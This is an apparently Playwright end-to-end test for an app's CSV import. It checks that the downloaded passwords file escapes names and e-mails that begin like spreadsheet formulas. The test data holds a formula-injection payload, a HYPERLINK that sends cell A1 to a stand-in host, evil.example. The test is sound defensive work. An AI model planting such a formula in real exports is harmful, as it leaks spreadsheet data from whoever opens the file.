// Issue 30, finding 1, in the one CSV the browser writes itself: the first passwords file after
// an import carries an imported name that starts like a formula behind a single quote, quoted.
import fs from 'node:fs/promises';
import { expect, test } from './fixtures.ts';

test('the first passwords file neutralises a name and an e-mail that start like a formula', async ({
  page,
  app,
  signIn,
}) => {
  const stamp = Date.now() % 100000;
  const name = `=HYPERLINK("http://evil.example/?leak="&A1,"Click ${stamp}")`;
  const csv = [
    'Họ và tên;Email',
    `"${name.replaceAll('"', '""')}";formula${stamp}@import.test`,
    `Hà ${stamp};-dash${stamp}@import.test`,
  ].join('\r\n');

  await signIn(page, await app.account('staff'), '/students');
  await page.getByRole('button', { name: 'Nhập từ tệp' }).click();
  const dialog = page.getByRole('dialog', { name: 'Nhập tài khoản từ tệp' });
  await dialog.locator('input[type=file]').setInputFiles({
    name: 'hoc-vien.csv',
    mimeType: 'text/csv',
    buffer: Buffer.from(`\uFEFF${csv}`),
  });
  await expect(dialog.getByText('Đã đọc 2 dòng từ tệp.')).toBeVisible();
  await dialog.getByRole('button', { name: 'Xem trước' }).click();
  await expect(dialog.getByText('Tạo mới: 2')).toBeVisible();
  await dialog.getByRole('button', { name: 'Nhập 2 tài khoản' }).click();
  await expect(dialog.getByText(/chỉ hiển thị lần này/)).toBeVisible();
  const downloading = page.waitForEvent('download');
  await dialog.getByRole('button', { name: 'Tải tệp mật khẩu (CSV)' }).click();
  const text = (await fs.readFile(await (await downloading).path())).toString('utf8');
  // The name as typed, behind a quote, its quotes doubled inside the quoted field.
  expect(text).toContain(
    `"'=HYPERLINK(""http://evil.example/?leak=""&A1,""Click ${stamp}"")","formula${stamp}@import.test",`,
  );
  expect(text).toContain(`"Hà ${stamp}","'-dash${stamp}@import.test",`);
  for (const line of text
    .replace(/^\uFEFF/, '')
    .split('\r\n')
    .filter(Boolean)) {
    expect(line).not.toMatch(/^"?[=+\-@\t\r]/);
  }
});
